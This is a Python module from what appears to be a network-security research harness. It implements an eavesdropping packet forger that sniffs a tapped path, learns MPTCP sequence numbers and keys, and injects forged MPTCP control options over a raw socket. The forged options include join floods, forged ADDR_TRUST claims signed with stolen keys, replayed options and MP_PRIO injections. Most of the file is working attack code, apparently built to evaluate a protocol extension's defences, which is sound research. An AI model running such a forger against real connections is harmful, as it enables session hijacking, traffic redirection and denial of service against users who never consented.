"""An eavesdropping forger that tries packet shapes one after another, run in an attacker
host. It loads scapy once and answers one command per stdin line (an attack and a shape;
one JSON line back):

    python -m experiments.forger --tap PCAP --victim ADDR ... --peer ADDR ...
                                 --attacker ADDR [--removed-id N ...] [--seed N]
    stdin:  ATTACK SHAPE [now]  (an option attack of experiments.attacks or ``claim``, a
                                 shape of experiments.shapes; join_flood takes no shape;
                                 with ``now`` it strikes at once instead of in a lull)
    stdout: one JSON line per command: what it sent (``no_room``: why a shape could not
            carry the option, and nothing went out)

Before each command it reads the tap again and waits for a lull (attacks.eavesdrop), so
every forgery carries the peer's latest sequence numbers and timestamps (``now``: what
the tap holds at that moment, for attacks during a transfer); it adds what its
own earlier forgeries consumed (payload bytes, a FIN) to the sequence numbers it uses.
Every forged packet carries attacks.TAG (IP ID, or IPv6 flow label).

``claim`` attacks the extension: an ADDR_TRUST in the peer's name saying that the
eavesdropped address is protected (signed with the keys read from the first subflow, a
counter above any real one), in the shape asked for; CLAIM_SETTLE later, once the
victim's agent would have taken it, an MP_PRIO in the same shape on the same subflows,
which the victim acts on only if that subflow is no longer in enforcement's scope.
Started with ``--victim`` the peer's addresses and ``--peer`` the eavesdropped host's.

``replay`` resends, in the shape asked for, every control option the eavesdropped host
sent on the tapped subflows (attacks.REPLAYED_SUBTYPES and ADDR_TRUST, bytes as
recorded) with the subflow's current sequence numbers, and with ``--record-tap`` (a
capture of a path it can read but not send on, such as the eavesdropped host's protected
access link) what that path carries too: the extension's messages travel on trusted
subflows. The MP_PRIO behind it goes only on the subflows of ``--tap``; ``own_connection`` says
attacks.own_connection_claims on the attacker's own MPTCP connection to the victim
(``--own`` its address, ``--own-tap`` a capture of it, whose handshake gives the keys;
always plain: it is the attacker's own connection). Both are followed by the MP_PRIO, as
the claim is. Neither sends anything before the tap has shown the eavesdropped
connection.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time

from experiments import attacks
from experiments.shapes import PAYLOAD, SHAPES, NoRoom
from hosts.options import OptionError, parse_mptcp

CLAIM_SETTLE = 0.01  # s: the victim's agent reads the claim and updates its classifier
# Sequence space a shape's segment consumes: the next forgery on that subflow goes after it.
CONSUMES = {"payload": len(PAYLOAD), "fin": 1}


def forge(
    attack: str,
    shape: str,
    k: attacks.Knowledge,
    args,
    rng: random.Random,
    advance: dict,
    now: float,
    own: attacks.Knowledge | None = None,
    recorded: attacks.Knowledge | None = None,
) -> list:
    """The packets of one command; ``advance``: sequence space our forgeries used;
    ``own``: what the attacker knows of its own connection (``own_connection``);
    ``recorded``: what it read on the record tap (``replay``)."""
    if attack == "join_flood":
        port = k.server_port or args.port
        sources = sorted({t[2] for t in k.last_from_peer}) or args.victim
        targets = sorted({t[0] for t in k.last_from_peer}) or args.peer
        return attacks.join_flood(k, sources, targets, port, rng)
    if attack == "own_connection":
        return _own_connection(k, own, args, advance, now)
    if attack == "replay":
        return _replay(k, recorded, shape, advance, now)
    if attack != "claim":
        option = attacks.option_for(attack, k, args.attacker, rng, tuple(args.removed_id))
    out = []
    for four, seen in k.last_from_peer.items():
        if attack == "claim":
            claim = attacks.claim_for(seen, k, args.counter, args.addr_trust_subtype)
            options = [claim] if claim is not None else []  # no keys: nothing worth sending
        else:
            options = [option]
        for option in options:
            out += SHAPES[shape](_after(seen, option, four, advance, now), option)
            advance[four] = advance.get(four, 0) + CONSUMES.get(shape, 0)
    return out


def _after(seen, option: bytes, four: tuple, advance: dict, now: float):
    """attacks.segment_after, past the sequence space our earlier forgeries used."""
    base = attacks.segment_after(seen, option, now)
    base["TCP"].seq = (base["TCP"].seq + advance.get(four, 0)) & 0xFFFFFFFF
    return base


def _replay(
    k: attacks.Knowledge, recorded: attacks.Knowledge | None, shape: str, advance: dict, now: float
) -> list:
    """Every recorded option again, on the subflow it was recorded on, after the latest
    segment either tap shows there."""
    sources = [k] + ([recorded] if recorded is not None else [])
    out = []
    for source in sources:
        for four, option in source.recorded:
            seen = next((s.last_from_peer[four] for s in sources if four in s.last_from_peer), None)
            if seen is None:
                continue
            out += SHAPES[shape](_after(seen, option, four, advance, now), option)
            advance[four] = advance.get(four, 0) + CONSUMES.get(shape, 0)
    return out


def describe(k: attacks.Knowledge, recorded: attacks.Knowledge | None, subtype: int) -> str:
    """What a replay had to resend, for the records: ``AddrTrust:2 AddAddr-trust:1``
    (``subtype``: the one the agents use for ADDR_TRUST)."""
    counts: dict[str, int] = {}
    for _, option in k.recorded + (recorded.recorded if recorded else []):
        try:
            opt = parse_mptcp(option, subtype)
        except OptionError:
            name = "unparsed"
        else:
            name = type(opt).__name__ + "".join(
                f"-{flag}" for flag in ("echo", "trust", "withdraw") if getattr(opt, flag, False)
            )
        counts[name] = counts.get(name, 0) + 1
    return " ".join(f"{name}:{n}" for name, n in sorted(counts.items()))


def _own_connection(
    k: attacks.Knowledge, own: attacks.Knowledge | None, args, advance: dict, now: float
) -> list:
    """attacks.own_connection_claims on each subflow of the attacker's own connection,
    once the tap has shown the eavesdropped host's connection (whose addresses they
    name: the one on the tap is its unprotected address, its other one protected)."""
    if own is None or not k.last_from_peer:
        return []
    unprotected = sorted({four[0] for four in k.last_from_peer})
    protected = sorted(set(args.peer) - set(unprotected)) or unprotected
    out = []
    for four, seen in own.last_from_peer.items():
        src, _, dst, _ = four
        for option in attacks.own_connection_claims(
            own, src, dst, protected[0], unprotected[0], args.counter, args.addr_trust_subtype
        ):
            out += SHAPES["plain"](_after(seen, option, four, advance, now), option)
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m experiments.forger", description=" ".join(__doc__.split("\n\n")[0].split())
    )
    ap.add_argument("--tap", required=True, help="pcap of the eavesdropped path")
    attacks.add_target_arguments(ap)
    ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
    ap.add_argument(
        "--removed-id",
        type=int,
        action="append",
        default=[],
        help="address IDs a forged RM_ADDR names (default: every ID in use)",
    )
    ap.add_argument("--seed", type=int, default=1, help="seed of the forger's choices (1)")
    ap.add_argument(
        "--record-tap", help="pcap of a path the attacker reads but does not send on (replay)"
    )
    ap.add_argument("--own", help="the attacker's address on its own connection (own_connection)")
    ap.add_argument("--own-tap", help="pcap of the attacker's own connection (own_connection)")
    ap.add_argument(
        "--addr-trust-subtype",
        type=int,
        default=attacks.ADDR_TRUST_DEFAULT,
        help="the MPTCP subtype the agents use for ADDR_TRUST",
    )
    args = ap.parse_args(argv)
    if bool(args.own) != bool(args.own_tap):
        ap.error("--own and --own-tap go together")
    args.counter = attacks.CLAIM_COUNTER
    args.removed_id = args.removed_id or list(attacks.REMOVED_IDS)
    # One raw IP socket for the whole run (the kernel routes, resolves the next hop and
    # sends our headers as they are): scapy's send() opens a socket per call, which put
    # some 50 ms between deciding to strike and the packet on the wire.
    sender = attacks.RawSender()
    rng, advance = random.Random(args.seed), {}
    victim, peer = set(args.victim), set(args.peer)
    # The tap is read on from where it stopped: a command costs what was written since.
    subtype = args.addr_trust_subtype
    tap, learner = attacks.TapFollower(args.tap), attacks.Learner(victim, peer, subtype)
    record_tap = attacks.TapFollower(args.record_tap) if args.record_tap else None
    record_learner = attacks.Learner(victim, peer, subtype)
    own_tap = attacks.TapFollower(args.own_tap) if args.own_tap else None
    own_learner = attacks.Learner(victim, {args.own}, subtype) if args.own else None
    # scapy's layers load on first use, some 150 ms: before the connection starts, not in
    # its first moments.
    from scapy.layers.inet import IP, TCP, fragment
    from scapy.layers.inet6 import IPv6

    bytes(fragment(IP(dst="127.0.0.1") / TCP(options=[("NOP", None)]), fragsize=8)[0])
    bytes(IPv6(dst="::1") / TCP())
    print("ready", flush=True)
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        attack, shape = words[0], (words[1:] or ["plain"])[0]
        patience = 0.0 if words[2:3] == ["now"] else attacks.PATIENCE
        if attack == "join_flood":
            shape = "plain"  # one shape: the flood
        if attack == "own_connection" and own_tap is None:
            print(json.dumps({"error": "own_connection needs --own and --own-tap"}), flush=True)
            continue
        if attack not in attacks.ALL_ATTACKS or shape not in SHAPES:
            print(
                json.dumps(
                    {
                        "error": f"unknown attack or shape: {line.strip()!r}; attacks "
                        f"{', '.join(attacks.ALL_ATTACKS)}; shapes {', '.join(SHAPES)}"
                    }
                ),
                flush=True,
            )
            continue
        try:
            k = attacks.eavesdrop(tap, victim, peer, patience=patience, learner=learner)
            own = None
            if own_tap is not None:  # quiet by design: what the tap holds now is current
                own = attacks.eavesdrop(
                    own_tap, victim, {args.own}, patience=0, learner=own_learner
                )
            recorded = None
            if record_tap is not None:
                recorded = record_learner.feed(record_tap()).knowledge()
            no_room = ""
            try:
                packets = forge(attack, shape, k, args, rng, advance, time.time(), own, recorded)
            except NoRoom as e:  # the shape cannot carry this option: nothing to send
                packets, no_room = [], str(e)
            sent_at = time.time()
            sender.send(packets)
            if attack in attacks.EXTENSION_ATTACKS:
                args.counter += 3  # the next claims must be fresh too
                if packets:
                    time.sleep(CLAIM_SETTLE)
                    prio = forge("mp_prio", shape, k, args, rng, advance, time.time())
                    sender.send(prio)
                    packets += prio
        except (OSError, ValueError) as e:
            print(json.dumps({"error": str(e)}), flush=True)
            continue
        print(
            json.dumps(
                {
                    "attack": attack,
                    "shape": shape,
                    "sent": len(packets),
                    "sent_at": sent_at,
                    "no_room": no_room,
                    **k.summary(),
                    "recorded": len(k.recorded) + (len(recorded.recorded) if recorded else 0),
                    "replayed": describe(k, recorded, subtype) if attack == "replay" else "",
                    **(
                        {
                            "own_subflows": len(own.last_from_peer),
                            "own_keys": own.client_key is not None,
                        }
                        if own
                        else {}
                    ),
                }
            ),
            flush=True,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
